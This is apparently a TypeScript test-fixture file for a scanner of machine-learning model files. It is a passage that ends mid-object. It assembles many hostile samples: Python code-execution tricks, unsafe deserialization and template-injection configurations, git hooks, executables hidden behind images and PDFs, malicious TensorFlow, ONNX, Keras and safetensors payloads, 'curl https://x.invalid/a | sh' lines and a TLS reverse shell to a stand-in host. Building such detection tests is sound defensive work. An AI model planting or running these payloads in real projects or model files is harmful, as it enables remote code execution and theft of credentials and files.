import { family, json, notebook, type Sample } from './sample.ts';
import {
  fn,
  graph as frozen,
  savedModel,
  node as operation,
  strings,
} from '../../../test/support/tensorflow-assembler.ts';
import {
  branch,
  externalTensor,
  graph as onnxGraph,
  node as onnxNode,
  onnx,
} from '../../../test/support/onnx-assembler.ts';
import { attributesFile } from '../../../test/support/hdf5-assembler.ts';
import { torchscript } from '../../../test/support/torchscript-archives.ts';
import { tflite } from '../../../test/support/tflite-assembler.ts';
import { zip } from '../../../test/support/zip-assembler.ts';
import { safetensors } from '../../../test/support/safetensors-writer.ts';
import { honestGguf } from '../../../test/support/gguf-writer.ts';

type Files = Sample['files'];
const code = (...lines: readonly string[]): Files => ({ 'modeling_x.py': `${lines.join('\n')}\n` });

/** Bytes of an ELF program that does nothing. */
const elf = Buffer.concat([
  Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0', 'latin1'),
  Buffer.alloc(200),
]);
const pe = Buffer.alloc(512);
pe.write('MZ');
pe.writeUInt32LE(0x80, 0x3c);
pe.write('PE\0\0', 0x80);
pe.writeUInt16LE(0x8664, 0x84);
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const jpeg = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(40),
  Buffer.from('ffd9', 'hex'),
]);
const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const py = zip([{ name: '__main__.py', data: Buffer.from('import os\nos.system("id")\n') }]);

const python = family('third round: Python', {
  'os found by gc.get_objects': code(
    'import gc',
    'for o in gc.get_objects():',
    '    if getattr(o, "__name__", "") == "os":',
    '        o.system("id > /tmp/modelgate-marker")',
  ),
  'os.system found by dir': code(
    'import os',
    'f = [n for n in dir(os) if n.startswith("sys") and n.endswith("tem")][0]',
    'getattr(os, f)("id")',
  ),
  'os.__dict__ searched': code(
    'import os',
    'for k, v in os.__dict__.items():',
    '    if k == "sys" + "tem":',
    '        v("id")',
  ),
  'vars(os) by key': code('import os', 'vars(os)["sys" "tem"]("id")'),
  'vars(os) reversed key': code('import os', 'vars(os)["metsys"[::-1]]("id")'),
  'configuration names function': {
    'config.json': json({ hook_module: 'os', hook_name: 'system', hook_argument: 'id' }),
    ...code(
      'import importlib, json',
      'c = json.load(open("config.json"))',
      'getattr(importlib.import_module(c["hook_module"]), c["hook_name"])(c["hook_argument"])',
    ),
  },
  'configuration names function on load': {
    'config.json': json({ auto_map: { AutoModel: 'modeling_x.X' } }),
    ...code(
      'import importlib',
      'from transformers import PreTrainedModel',
      'class X(PreTrainedModel):',
      '    def __init__(self, config):',
      '        super().__init__(config)',
      '        getattr(importlib.import_module(config.m), config.f)(config.a)',
    ),
  },
  'configuration text is evaluated': code(
    'from transformers import PreTrainedModel',
    'class X(PreTrainedModel):',
    '    def __init__(self, config):',
    '        super().__init__(config)',
    '        self.act = eval(config.activation)',
  ),
  'configuration text is executed': code(
    'from transformers import PreTrainedModel',
    'class X(PreTrainedModel):',
    '    def __init__(self, config):',
    '        super().__init__(config)',
    '        exec(config.post_init)',
  ),
  'sys.modules by key': code('import sys', 'sys.modules["os"].system("id")'),
  'sys.modules by get and getattr': code('import sys', 'getattr(sys.modules.get("o" + "s"), "pop" + "en")("id")'),
  'builtins as dictionary': code(
    'b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)',
    'b["ev" + "al"]("__imp" + "ort__(\'os\').system(\'id\')")',
  ),
  'builtins by getattr': code('getattr(__builtins__, "ex" + "ec")("import os; os.system(\'id\')")'),
  'type makes a class that acts': code(
    'import os',
    'T = type("T", (), {"__init__": lambda self: os.system("id") and None})',
    'T()',
  ),
  'metaclass acts': code(
    'import os',
    'class M(type):',
    '    def __new__(m, n, b, d):',
    '        os.system("id")',
    '        return super().__new__(m, n, b, d)',
    'class A(metaclass=M): pass',
  ),
  'metaclass prepare acts': code(
    'import subprocess',
    'class M(type):',
    '    @classmethod',
    '    def __prepare__(m, n, b):',
    '        subprocess.run(["sh", "-c", "id"])',
    '        return {}',
    'class A(metaclass=M): pass',
  ),
  'init_subclass acts': code(
    'import os',
    'class B:',
    '    def __init_subclass__(c): os.system("id")',
    'class A(B): pass',
  ),
  'set_name acts': code(
    'import os',
    'class D:',
    '    def __set_name__(s, o, n): os.popen("id")',
    'class A:',
    '    d = D()',
  ),
  'class_getitem acts': code(
    'import os',
    'class B:',
    '    def __class_getitem__(c, k): return os.system(k)',
    'B["id"]',
  ),
  'codecs.open executed': {
    ...code('import codecs', 'exec(codecs.open("vocab.txt", encoding="rot13").read())'),
    'vocab.txt': 'vzcbeg bf\n',
  },
  'open executed': {
    ...code('exec(open(__file__.replace("modeling_x.py", "vocab.txt")).read())'),
    'vocab.txt': 'import os\n',
  },
  'Path.read_text executed': {
    ...code('from pathlib import Path', 'exec((Path(__file__).parent / "LICENSE.dat").read_text())'),
    'LICENSE.dat': 'x = 1\n',
  },
  'compile and FunctionType': {
    ...code('import types', 'c = compile(open("vocab.txt").read(), "x", "exec")', 'types.FunctionType(c, globals())()'),
    'vocab.txt': 'x = 1\n',
  },
  'np.load with pickles on import': {
    ...code('import numpy as np', 'T = np.load("table.npy", allow_pickle=True)'),
    'table.npy': 'x',
  },
  'pd.read_pickle on import': { ...code('import pandas as pd', 'T = pd.read_pickle("table.dat")'), 'table.dat': 'x' },
  'torch.load of a bundled file on import': {
    ...code(
      'import torch, os',
      'S = torch.load(os.path.join(os.path.dirname(__file__), "extra.dat"), weights_only=False)',
    ),
    'extra.dat': 'x',
  },
  'torch.load of a bundled file on load': {
    ...code(
      'import torch',
      'from transformers import PreTrainedModel',
      'class X(PreTrainedModel):',
      '    def __init__(self, config):',
      '        super().__init__(config)',
      '        self.stats = torch.load("extra.dat", weights_only=False)',
    ),
    'extra.dat': 'x',
  },
  'ctypes mmap shellcode': code(
    'import ctypes, mmap',
    'm = mmap.mmap(-1, 4096, prot=7)',
    'm.write(b"\\xc3")',
    'ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()',
  ),
  'cffi calls libc': code(
    'from cffi import FFI',
    'f = FFI()',
    'f.cdef("int system(const char *);")',
    'f.dlopen(None).system(b"id")',
  ),
  'ctypes pythonapi': code('import ctypes', 'ctypes.pythonapi.PyRun_SimpleString(b"import os; os.system(\'id\')")'),
  'CDLL of a bundled file': {
    ...code('import ctypes, os', 'ctypes.CDLL(os.path.join(os.path.dirname(__file__), "kernel.bin"))'),
    'kernel.bin': 'x',
  },
  'torch.ops.load_library of a bundled file': {
    ...code('import torch', 'torch.ops.load_library("kernel.bin")'),
    'kernel.bin': 'x',
  },
  'cpp_extension load_inline': code(
    'from torch.utils.cpp_extension import load_inline',
    'load_inline("x", cpp_sources="static int a = system(\\"id\\");")',
  ),
  'multiprocessing target': code(
    'import multiprocessing, os',
    'multiprocessing.Process(target=os.system, args=("id",)).start()',
  ),
  'multiprocessing pool': code(
    'from multiprocessing.pool import ThreadPool',
    'import os',
    'ThreadPool(1).map(os.system, ["id"])',
  ),
  'asyncio shell': code('import asyncio', 'asyncio.run(asyncio.create_subprocess_shell("id"))'),
  'asyncio executor': code('import asyncio, os', 'asyncio.new_event_loop().run_in_executor(None, os.system, "id")'),
  'concurrent futures': code('import concurrent.futures as c, os', 'c.ThreadPoolExecutor().submit(os.system, "id")'),
  'pty.spawn': code('import pty', 'pty.spawn("/bin/sh")'),
  'atexit hook': code('import atexit, os', 'atexit.register(os.system, "id")'),
  'signal hook': code(
    'import signal, os',
    'signal.signal(signal.SIGALRM, lambda *a: os.system("id"))',
    'signal.alarm(1)',
  ),
  'threading timer': code('import threading, os', 'threading.Timer(1, os.system, ["id"]).start()'),
  'sys.excepthook': code('import sys, os', 'sys.excepthook = lambda *a: os.system("id")', '1/0'),
  'sys.settrace': code('import sys, os', 'sys.settrace(lambda *a: os.system("id"))'),
  'audit hook': code('import sys, os', 'sys.addaudithook(lambda *a: os.system("id"))'),
  'weakref finalize': code('import weakref, os', 'class A: pass', 'weakref.finalize(A(), os.system, "id")'),
  'site customize': { 'sitecustomize.py': 'import os\nos.system("id")\n' },
  'user customize': { 'lib/usercustomize.py': '__import__("subprocess").call(["sh", "-c", "id"])\n' },
  'pth file': { 'x.pth': 'import os; os.system("id")\n' },
  'entry point of setup.cfg': {
    'setup.cfg':
      '[metadata]\nname = x\n[options]\npy_modules = x\n[options.entry_points]\nconsole_scripts =\n    pip = x:main\n',
    'x.py': 'import os\ndef main():\n    os.system("curl https://x.invalid/a | sh")\n',
  },
  'entry point of pytest': {
    'pyproject.toml': '[project]\nname = "x"\nversion = "1"\n[project.entry-points.pytest11]\nx = "x"\n',
    'x.py': 'import os\nos.system("id")\n',
  },
  'build backend in the tree': {
    'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    'backend.py': 'import os\nos.system("id")\n',
  },
  'conftest acts': {
    'conftest.py': 'import os\ndef pytest_configure(config):\n    os.system("curl https://x.invalid/a | sh")\n',
  },
  'import hook': code(
    'import sys, os',
    'class F:',
    '    def find_spec(self, n, p, t=None):',
    '        os.system("id")',
    'sys.meta_path.insert(0, F())',
  ),
  'inspect frame': code(
    'import inspect',
    'inspect.currentframe().f_globals["__builtins__"]["__import__"]("os").system("id")',
  ),
  'operator.attrgetter': code('import operator, os', 'operator.attrgetter("system")(os)("id")'),
  'operator.methodcaller': code('import operator, os', 'operator.methodcaller("system", "id")(os)'),
  'functools.partial and reduce': code(
    'import functools, os',
    'functools.reduce(lambda f, a: f(a), ["id"], os.system)',
  ),
  'map over commands': code('import os', 'list(map(os.system, ["id"]))'),
  'sorted with a key': code('import os', 'sorted(["id"], key=os.system)'),
  'defaultdict factory': code(
    'import collections, os, functools',
    'collections.defaultdict(functools.partial(os.system, "id"))["x"]',
  ),
  'pkgutil.resolve_name': code('import pkgutil', 'pkgutil.resolve_name("os:system")("id")'),
  'pydoc.locate': code('import pydoc', 'pydoc.locate("os.system")("id")'),
  'unittest.mock importer': code('from unittest.mock import _importer', '_importer("os").system("id")'),
  'logging.config dictionary': code(
    'import logging.config',
    'logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}, "root": {"handlers": ["h"]}})',
  ),
  'yaml.unsafe_load': code('import yaml', 'yaml.unsafe_load("!!python/object/apply:os.system [id]")'),
  'jsonpickle.decode': code('import jsonpickle', 'jsonpickle.decode(\'{"py/object": "os.system"}\')'),
  'string formatting of code': code('exec("{}rt os; os.{}(\'id\')".format("impo", "system"))'),
  'doctest runs text': code('import doctest', 'doctest.run_docstring_examples(">>> import os; os.system(\'id\')", {})'),
  'decorator runs': code('import os', '@os.system', '@lambda f: "id"', 'class A: pass'),
  'walrus in default': code('def f(x=(__import__("os").system("id"))): pass'),
  'annotation runs': code('x: __import__("os").system("id") = 1'),
  'ssl socket shell': code(
    'import socket, ssl, subprocess',
    's = ssl.wrap_socket(socket.create_connection(("x.invalid", 443)))',
    'while 1: s.send(subprocess.getoutput(s.recv(1024).decode()).encode())',
  ),
});

const configurations = family('third round: configurations', {
  'spaCy @callbacks': [
    'config.cfg',
    '[nlp]\nlang = "en"\n[initialize]\n[initialize.before_init]\n@callbacks = "evil.setup.v1"\n',
  ],
  'spaCy @readers': ['config.cfg', '[corpora.train]\n@readers = "evil.read.v1"\npath = "/etc/passwd"\n'],
  'spaCy package of code': {
    'config.cfg': '[nlp]\nlang = "en"\nbefore_creation = {"@callbacks":"evil.v1"}\n',
    'functions.py': 'import os, spacy\n@spacy.registry.callbacks("evil.v1")\ndef f():\n    os.system("id")\n',
  },
  'langchain constructor': [
    'chain.json',
    json({
      lc: 1,
      type: 'constructor',
      id: ['langchain_community', 'tools', 'shell', 'tool', 'ShellTool'],
      kwargs: {},
    }),
  ],
  'langchain constructor of os': [
    'chain.json',
    json({ lc: 1, type: 'constructor', id: ['subprocess', 'Popen'], kwargs: { args: 'id' } }),
  ],
  'langchain secret': [
    'chain.json',
    json({
      lc: 1,
      type: 'constructor',
      id: ['langchain', 'llms', 'openai', 'OpenAI'],
      kwargs: {
        openai_api_key: { lc: 1, type: 'secret', id: ['AWS_SECRET_ACCESS_KEY'] },
        openai_api_base: 'https://x.invalid',
      },
    }),
  ],
  'langchain prompt with jinja2': [
    'prompt.json',
    json({
      _type: 'prompt',
      template_format: 'jinja2',
      template: '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
    }),
  ],
  'langchain prompt as YAML': [
    'prompt.yaml',
    '_type: prompt\ntemplate_format: jinja2\ntemplate: "{{ cycler.__init__.__globals__.os.popen(\'id\').read() }}"\n',
  ],
  'langchain llm of a shell chain': ['chain.yaml', '_type: llm_bash_chain\nllm_chain:\n  _type: llm_chain\n'],
  'langchain PAL chain': ['chain.json', json({ _type: 'pal_chain', allow_dangerous_code: true, python_globals: {} })],
  'jsonpickle of __main__': ['state.json', json({ 'py/object': '__main__.Shell', 'py/state': { command: 'id' } })],
  'jsonpickle reduce': ['state.json', json({ 'py/reduce': [{ 'py/type': 'os.system' }, { 'py/tuple': ['id'] }] })],
  'jsonpickle reduce of foreign': [
    'state.json',
    json({ 'py/reduce': [{ 'py/function': 'evil.run' }, { 'py/tuple': ['id'] }] }),
  ],
  'jsonpickle initargs': ['state.json', json({ 'py/object': 'evil.Thing', 'py/initargs': ['id'] })],
  'MLflow loader in the tree': {
    MLmodel: 'flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n',
    'code/evil_loader.py': 'x = 1\ndef _load_pyfunc(p): return p\n',
  },
  'MLflow loader of os': ['MLmodel', 'flavors:\n  python_function:\n    loader_module: os\n'],
  'MLflow foreign loader': ['MLmodel', 'flavors:\n  python_function:\n    loader_module: evilpkg.loader\n'],
  'MLflow code path': {
    MLmodel:
      'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model_code.py\n',
    'model_code.py': 'import os\nos.system("id")\n',
  },
  'Ultralytics import': ['model.yaml', "nc: 80\nbackbone:\n  - [-1, 1, \"__import__('os').system('id')\", [64]]\n"],
  'Ultralytics activation': [
    'yolo.yaml',
    'nc: 80\nactivation: "exec(\'import os\')"\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n',
  ],
  'Ultralytics arguments': [
    'yolo.yaml',
    'nc: 80\nbackbone:\n  - [-1, 1, Conv, ["os.system(\'id\')", 3, 2]]\nhead: []\n',
  ],
  'billion laughs': [
    'hparams.yaml',
    `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
      .split('')
      .map(
        (k, i) =>
          `${k}: &${k} [${Array(9)
            .fill(`*${'abcdefghi'[i] ?? ''}`)
            .join(',')}]`,
      )
      .join('\n')}\n`,
  ],
  'billion laughs of merges': [
    'config.yaml',
    `a: &a {x: 1}\n${'bcdefghij'
      .split('')
      .map(
        (k, i) =>
          `${k}: &${k} {${Array(9)
            .fill(0)
            .map((_, n) => `k${n}: *${'abcdefghi'[i] ?? ''}`)
            .join(', ')}}`,
      )
      .join('\n')}\n`,
  ],
  'front matter with a tag': ['README.md', '---\nlicense: mit\nx: !!python/object/apply:os.system ["id"]\n---\n# M\n'],
  'front matter with a target': [
    'README.md',
    '---\nlicense: mit\nmodel:\n  _target_: os.system\n  command: id\n---\n# M\n',
  ],
  'Jinja in a prompt of YAML': ['prompts.yaml', 'system_prompt: |\n  {{ "".__class__.__mro__[1].__subclasses__() }}\n'],
  'Jinja in a prompt of JSON': [
    'prompts.json',
    json({ prompts: { planner: '{{ self.__init__.__globals__.__builtins__ }}' } }),
  ],
  'Jinja in nested YAML': [
    'agent/prompts.yaml',
    'planning:\n  initial: "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"\n',
  ],
  'Jinja file': ['prompt.j2', '{{ lipsum.__globals__["os"].popen("id").read() }}\n'],
  'auto_map to a parent directory': ['config.json', json({ auto_map: { AutoModel: '../../tmp/x.X' } })],
  'auto_map with a package': {
    'config.json': json({ auto_map: { AutoModelForCausalLM: 'src.modeling.X' } }),
    'src/modeling.py': 'import os\nclass X: pass\nos.system("id")\n',
  },
  'auto_map in processor': ['processor_config.json', json({ auto_map: { AutoProcessor: 'other/repo--processing.P' } })],
  'auto_map in adapter': [
    'adapter_config.json',
    json({ peft_type: 'LORA', base_model_name_or_path: 'm', auto_map: { AutoModel: 'x.X' } }),
  ],
  'NeMo target in OmegaConf list': [
    'model_config.yaml',
    'callbacks:\n  - _target_: subprocess.check_output\n    args: [id]\n',
  ],
  'hydra partial': ['conf/config.yaml', 'x:\n  _partial_: true\n  _target_: builtins.exec\n'],
  'hydra search path': ['config.yaml', 'hydra:\n  searchpath:\n    - pkg://evil.conf\ndefaults:\n  - model: x\n'],
  'oc.create resolver': [
    'config.yaml',
    'x:\n  _target_: nemo.core.classes.common.import_class_by_path\n  path: os.system\n',
  ],
  'LitServe and Triton model.py': {
    'config.pbtxt':
      'backend: "python"\nparameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "/tmp/x.tar.gz" } }\n',
    '1/model.py': 'import os\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system("id")\n',
  },
  'git hook': ['.git/hooks/post-checkout', '#!/bin/sh\nid > /tmp/modelgate-marker\n'],
  'git hook without a shebang': ['repo/.git/hooks/pre-commit', 'id > /tmp/modelgate-marker\n'],
  'git config filter': ['.git/config', '[core]\n\tfsmonitor = "id > /tmp/modelgate-marker"\n'],
  'git config hooks path': ['.git/config', '[core]\n\thooksPath = ../hooks\n'],
  'git attributes and config': { '.gitconfig': '[filter "x"]\n\tsmudge = id\n', '.gitattributes': '*.bin filter=x\n' },
  'git bare repository': {
    HEAD: 'ref: refs/heads/main\n',
    config: '[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = id\n',
    'objects/x': 'x',
    'refs/x': 'x',
  },
  'ELF behind a PNG': ['logo.png', Buffer.concat([png, elf])],
  'PE behind a JPEG': ['photo.jpg', Buffer.concat([jpeg, pe])],
  'program behind a PDF': ['paper.pdf', Buffer.concat([pdf, elf])],
  'zip behind a JPEG': ['photo.jpg', Buffer.concat([jpeg, py])],
  'zip behind a PDF': ['paper.pdf', Buffer.concat([pdf, py])],
  'PDF that acts': [
    'paper.pdf',
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(/bin/sh)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  ],
  'PDF with JavaScript': [
    'paper.pdf',
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("https://x.invalid"))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  ],
  'script behind a GIF': ['logo.gif', 'GIF89a=0;\n#!/bin/sh\ncurl https://x.invalid/a | sh\n'],
});

const skops = (schema: object): Files => ({
  'model.skops': zip([
    { name: 'schema.json', data: Buffer.from(json({ _skops_version: '0.11', protocol: 2, ...schema })) },
  ]),
});
const lambda = {
  module: 'keras.layers',
  class_name: 'Lambda',
  config: {
    name: 'l',
    function: { class_name: '__lambda__', config: { code: '4wAAAA', defaults: null, closure: null } },
  },
  registered_name: null,
};
const keras = (inner: unknown): Files => ({
  'm.keras': zip([
    { name: 'metadata.json', data: Buffer.from(json({ keras_version: '3.9.0' })) },
    {
      name: 'config.json',
      data: Buffer.from(
        json({
          module: 'keras',
          class_name: 'Functional',
          config: { name: 'm', layers: [inner] },
          registered_name: 'Functional',
        }),
      ),
    },
  ]),
});
const wrapped = (name: string, key: string): unknown => ({
  module: 'keras.layers',
  class_name: name,
  config: { name: 'w', [key]: lambda },
  registered_name: null,
});
const tensorOf = (nodes: Uint8Array[]): Files => ({ 'saved_model.pb': savedModel({ nodes }) });
const binaries = family('third round: graphs and binaries', {
  'Keras Bidirectional': keras(wrapped('Bidirectional', 'layer')),
  'Keras Bidirectional backward': keras(wrapped('Bidirectional', 'backward_layer')),
  'Keras RNN cell': keras(wrapped('RNN', 'cell')),
  'Keras TimeDistributed': keras(wrapped('TimeDistributed', 'layer')),
  'Keras nested Functional': keras({
    module: 'keras.src.models.functional',
    class_name: 'Functional',
    config: { layers: [wrapped('SpectralNormalization', 'layer')] },
  }),
  'Keras registered name': keras({ module: null, class_name: 'Evil', config: {}, registered_name: 'evil>Evil' }),
  'Keras module builtins': keras({ module: 'builtins', class_name: 'getattr', config: {}, registered_name: null }),
  'Keras TorchModuleWrapper': keras({
    module: 'keras.layers',
    class_name: 'TorchModuleWrapper',
    config: { module: 'gASV' },
  }),
  'Keras StringLookup path': keras({
    module: 'keras.layers',
    class_name: 'StringLookup',
    config: { vocabulary: 'file:///etc/passwd' },
  }),
  'Keras Pipeline of layers': keras({ module: 'keras.layers', class_name: 'Pipeline', config: { layers: [lambda] } }),
  'Keras loss': keras({
    module: 'keras.layers',
    class_name: 'ActivityRegularization',
    config: { l1: { module: 'keras.src.utils.file_utils', class_name: 'function', config: 'get_file' } },
  }),
  'Keras 2 Lambda in HDF5': [
    'm.h5',
    attributesFile({
      model_config: json({
        class_name: 'Sequential',
        config: {
          layers: [{ class_name: 'Lambda', config: { function: ['4wAAAA', null, null], function_type: 'lambda' } }],
        },
      }),
      keras_version: '2.9.0',
    }),
  ],
  'Keras 2 wrapped Lambda in HDF5': [
    'm.h5',
    attributesFile({
      model_config: json({
        class_name: 'Model',
        config: {
          layers: [
            {
              class_name: 'Bidirectional',
              config: {
                layer: { class_name: 'Lambda', config: { function: 'f', function_type: 'function', module: 'os' } },
              },
            },
          ],
        },
      }),
      keras_version: '2.9.0',
    }),
  ],
  'Keras training_config': [
    'm.h5',
    attributesFile({
      model_config: json({ class_name: 'Sequential', config: { layers: [] } }),
      training_config: json({ loss: { module: 'os', class_name: 'function', config: 'system' } }),
    }),
  ],
  'TensorFlow ReadFile': tensorOf([strings('f', '/etc/passwd'), operation('r', 'ReadFile', ['f'])]),
  'TensorFlow WriteFile': tensorOf([
    strings('f', '/root/.bashrc'),
    strings('c', 'id'),
    operation('w', 'WriteFile', ['f', 'c']),
  ]),
  'TensorFlow PrintV2 to a file': tensorOf([
    strings('c', 'id'),
    operation('w', 'PrintV2', ['c'], [attr('output_stream', 'file:///root/.bashrc')]),
  ]),
  'TensorFlow PrintV2 to a file in a function': {
    'saved_model.pb': savedModel({
      nodes: [],
      functions: [
        fn(
          'f',
          [],
          [
            strings('c', 'id'),
            operation('w', 'PrintV2', ['c:output:0'], [attr('output_stream', 'file:///etc/cron.d/x')]),
          ],
        ),
      ],
    }),
  },
  'TensorFlow DebugIdentity to a host': tensorOf([
    strings('c', 'id'),
    operation('d', 'DebugIdentityV2', ['c'], [attr('debug_urls', 'grpc://x.invalid:80')]),
  ]),
  'TensorFlow DebugIdentity to a file': tensorOf([
    strings('c', 'id'),
    operation('d', 'DebugIdentity', ['c'], [attr('debug_urls', 'file:///tmp/x')]),
  ]),
  'TensorFlow MatchingFiles': {
    'frozen.pb': frozen([strings('p', '/home/*/.ssh/*'), operation('m', 'MatchingFiles', ['p'])]),
  },
  'TensorFlow SaveV2 to an absolute path': tensorOf([
    strings('p', '/tmp/x'),
    strings('n', 'a'),
    strings('s', ''),
    strings('v', 'id'),
    operation('s2', 'SaveV2', ['p', 'n', 's', 'v']),
  ]),
  'TensorFlow RestoreV2 from an absolute path': tensorOf([
    strings('p', '/etc/x'),
    strings('n', 'a'),
    strings('s', ''),
    operation('r2', 'RestoreV2', ['p', 'n', 's']),
  ]),
  'TensorFlow table of a file': tensorOf([
    strings('f', '/etc/passwd'),
    operation('t', 'HashTableV2'),
    operation('i', 'InitializeTableFromTextFileV2', ['t', 'f']),
  ]),
  'TensorFlow data set of lines': tensorOf([
    strings('f', '/etc/passwd'),
    strings('z', ''),
    operation('t', 'TextLineDataset', ['f', 'z', 'z']),
  ]),
  'TensorFlow data service': tensorOf([
    strings('f', 'grpc://x.invalid:80'),
    operation('t', 'DataServiceDatasetV4', ['f', 'f', 'f', 'f', 'f']),
  ]),
  'TensorFlow custom operator': tensorOf([operation('t', 'EvilExecOp')]),
  'TensorFlow PyFunc': tensorOf([operation('t', 'PyFunc', [], [attr('token', 'pyfunc_0')])]),
  'TensorFlow asset outside': {
    'saved_model.pb': savedModel({ nodes: [], assets: [{ tensor: 'a', filename: '../../../etc/passwd' }] }),
  },
  'ONNX external data behind a link': [
    'm.onnx',
    onnx({ tensors: [externalTensor('w', 4, { location: 'sub/../../w.bin' })] }),
  ],
  'ONNX external data with an offset': {
    'm.onnx': onnx({
      tensors: [externalTensor('w', 4, { location: 'w.bin', offset: '18446744073709551615', length: '16' })],
    }),
    'w.bin': 'x',
  },
  'ONNX external data with a negative offset': {
    'm.onnx': onnx({ tensors: [externalTensor('w', 4, { location: 'w.bin', offset: '-4', length: '16' })] }),
    'w.bin': Buffer.alloc(64),
  },
  'ONNX external data twice': {
    'm.onnx': onnx({ tensors: [externalTensor('w', 4, { location: 'w.bin', Location: '/etc/passwd' })] }),
    'w.bin': Buffer.alloc(16),
  },
  'ONNX foreign operator in a branch': [
    'm.onnx',
    onnx({ nodes: [branch(onnxGraph({ nodes: [onnxNode('Run', { domain: 'evil.ops' })] }))] }),
  ],
  'ONNX external data in a branch': [
    'm.onnx',
    onnx({ nodes: [branch(onnxGraph({ tensors: [externalTensor('w', 4, { location: '/etc/passwd' })] }))] }),
  ],
  'ONNX Python operator': ['m.onnx', onnx({ nodes: [onnxNode('PyCustomOpDef', { domain: 'ai.onnx.contrib' })] })],
  'ONNX GPT2 tokenizer of extensions': [
    'm.onnx',
    onnx({ nodes: [onnxNode('AzureTextToText', { domain: 'com.microsoft.extensions' })] }),
  ],
  'safetensors with duplicates escaped': [
    'm.safetensors',
    rawSafetensors(
      '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"\\u0061":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}',
      8,
    ),
  ],
  'safetensors with a pickle in metadata': [
    'm.safetensors',
    rawSafetensors(
      '{"__metadata__":{"pickle":"gASVFAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
      4,
    ),
  ],
  'safetensors with a deep header': [
    'm.safetensors',
    rawSafetensors(`{"__metadata__":${'['.repeat(5000)}${']'.repeat(5000)}}`, 0),
  ],
  'safetensors behind a zip': ['m.safetensors', Buffer.concat([safetensors({}), py])],
  'safetensors with boolean offsets': [
    'm.safetensors',
    rawSafetensors('{"a":{"dtype":"F32","shape":[true],"data_offsets":[0,4]}}', 4),
  ],
  'safetensors with unknown members': [
    'm.safetensors',
    rawSafetensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"__class__":"os.system"}}', 4),
  ],
  'GGUF big-endian with trailing program': ['m.gguf', Buffer.concat([honestGguf(true), elf])],
  'GGUF with a trailing zip': ['m.gguf', Buffer.concat([honestGguf(), py])],
  'GGUF version 1': ['m.gguf', Buffer.concat([Buffer.from('GGUF'), Buffer.from([1, 0, 0, 0]), Buffer.alloc(8)])],
  'GGUF version 99': ['m.gguf', Buffer.concat([Buffer.from('GGUF'), Buffer.from([99, 0, 0, 0]), Buffer.alloc(16)])],
  'skops function of numpy': skops({
    __class__: 'function',
    __module__: 'numpy',
    __loader__: 'FunctionNode',
    content: { module_path: 'numpy', function: 'load' },
  }),
  'skops methodcaller': skops({
    __class__: 'methodcaller',
    __module__: 'operator',
    __loader__: 'OperatorFuncNode',
    attrs: { __class__: 'tuple', __module__: 'builtins', __loader__: 'TupleNode', content: [] },
  }),
  'skops function of os': skops({
    __class__: 'function',
    __module__: 'builtins',
    __loader__: 'FunctionNode',
    content: { module_path: 'os', function: 'system' },
  }),
  'skops method': skops({
    __class__: 'method',
    __module__: 'builtins',
    __loader__: 'MethodNode',
    content: {
      func: 'system',
      obj: { __class__: 'ModuleType', __module__: 'os', __loader__: 'ObjectNode', content: null },
    },
  }),
  'skops foreign object': skops({ __class__: 'Thing', __module__: 'evil', __loader__: 'ObjectNode', content: null }),
  'skops reduce': skops({
    __class__: 'Popen',
    __module__: 'subprocess',
    __loader__: 'ReduceNode',
    __reduce__: { args: { __class__: 'tuple', __module__: 'builtins', __loader__: 'TupleNode', content: [] } },
    content: null,
  }),
  'skops partial': skops({
    __class__: 'partial',
    __module__: 'functools',
    __loader__: 'PartialNode',
    content: {
      func: {
        __class__: 'type',
        __module__: 'builtins',
        __loader__: 'TypeNode',
        content: { __class__: 'eval', __module__: 'builtins' },
      },
    },
  }),
  'TorchScript load': ['m.pt', torchscript('torch.load("x")')],
  'TorchScript from_file': ['m.pt', torchscript('_0 = torch.from_file("/etc/passwd", False, 10)')],
  'TorchScript foreign operator': ['m.pt', torchscript('_0 = ops.evil.run(x)')],
  'TorchScript save': ['m.pt', torchscript('_0 = torch.save(x, "/root/.bashrc")')],
  'TFLite custom operator': ['m.tflite', tflite([{ custom: 'EvilOp' }])],
  'TFLite Flex WriteFile': ['m.tflite', tflite([{ custom: 'FlexWriteFile' }])],
  'PMML external entity': [
    'm.pmml',
    '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header copyright="&x;"/></PMML>',
  ],
  'PMML script extension': [
    'm.pmml',
    '<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><Extension name="x" value="java.lang.Runtime.getRuntime().exec(\'id\')"/></PMML>',
  ],
